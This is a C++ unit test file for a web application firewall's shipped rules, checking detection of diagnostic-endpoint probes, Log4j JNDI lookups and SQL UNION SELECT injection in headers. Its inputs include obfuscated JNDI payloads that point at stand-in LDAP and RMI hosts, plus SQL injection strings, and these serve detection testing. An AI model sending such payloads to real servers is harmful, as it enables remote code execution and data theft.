// The shipped example rules (rules/custom-rules/): they load, and each matches what it should and
// nothing benign.
#include <gtest/gtest.h>

#include "rules/custom/evaluator.h"
#include "rules/custom/rule_file.h"

namespace portcullis::rules::custom {
namespace {

class ShippedRules : public ::testing::Test {
 protected:
  void SetUp() override {
    std::vector<std::string> paths{std::string(PORTCULLIS_SOURCE_DIR) + "/rules/custom-rules"};
    auto specs = load_rule_paths(paths);
    ASSERT_TRUE(specs.ok()) << specs.error().reason;
    auto set = RuleSet::build(std::move(specs).value());
    ASSERT_TRUE(set.ok()) << set.error().reason;
    set_ = *set;
  }
  // "<terminal id>" or "-", then the monitor hits: "-,sql-union-select-in-header".
  std::string Eval(const std::string& location, const std::string& raw) {
    ev_.begin(*set_, 16 * 1024);
    ev_.evaluate(location, raw, location.starts_with("query"));
    auto t = ev_.terminal();
    std::string out = t ? set_->rule(*t).id : "-";
    for (const RuleHit& h : ev_.hits()) {
      if (set_->rule(h.rule).action == RuleAction::kMonitor) out += "," + set_->rule(h.rule).id;
    }
    return out;
  }
  std::shared_ptr<const RuleSet> set_;
  RuleEvaluator ev_;
};

TEST_F(ShippedRules, DiagnosticEndpoints) {
  for (const char* p : {"/actuator/env", "/actuator/heapdump", "/api/actuator/env/spring.x",
                        "/manage/jolokia/exec", "/%61ctuator/ENV", "/static/../actuator/threaddump",
                        "/server-status", "/server-info/", "/jolokia/read/x"}) {
    EXPECT_EQ(Eval("path", p), "diagnostic-endpoint") << p;
  }
  for (const char* p : {"/", "/actuator/health", "/actuator", "/docs/actuator/env-guide",
                        "/blog/server-status-page", "/a/b/actuator/env", "/environment"}) {
    EXPECT_EQ(Eval("path", p), "-") << p;
  }
}

TEST_F(ShippedRules, AcmeChallengeIsAllowed) {
  EXPECT_EQ(Eval("path", "/.well-known/acme-challenge/LoqXcYV8q5ONbJQxbmR7SCTNo3tiAXDfowyjxAjEuX0"),
            "allow-acme-challenge");
  EXPECT_EQ(Eval("path", "/.well-known/acme-challenge/short"), "-");
}

TEST_F(ShippedRules, Log4jLookupsInAnyHeader) {
  for (const char* v : {"${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x/a}",
                        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "%24%7Bjndi:dns://x%7D",
                        "${ JNDI:ldap://x/a}", "${jn${lower:d}i:ldap://x}"}) {
    EXPECT_EQ(Eval("header:x-api-version", v), "log4j-lookup-in-header") << v;
  }
  for (const char* v : {"Mozilla/5.0 (X11; Linux x86_64)", "price ${5}", "${HOME}/bin",
                        "{\"a\":\"${b}\"}", "jndi is a java api"}) {
    EXPECT_EQ(Eval("header:user-agent", v), "-") << v;
  }
  // Headers only: the same text in a query is the inspection stage's business.
  EXPECT_EQ(Eval("query:q", "${jndi:ldap://x/a}"), "-");
}

TEST_F(ShippedRules, UnionSelectInHeaders) {
  EXPECT_EQ(Eval("header:x-forwarded-for", "1' UNION SELECT password FROM users--"),
            "-,sql-union-select-in-header");
  EXPECT_EQ(Eval("header:x-api-version", "1%27%20union/**/all%0aselect%201"),
            "-,sql-union-select-in-header");
  EXPECT_EQ(Eval("header:referer", "https://example.com/?q=european+union+selection"), "-");
  EXPECT_EQ(Eval("header:user-agent", "Mozilla/5.0 (X11; Linux x86_64)"), "-");
  EXPECT_EQ(Eval("query:q", "1 UNION SELECT 2"), "-");
}

}  // namespace
}  // namespace portcullis::rules::custom
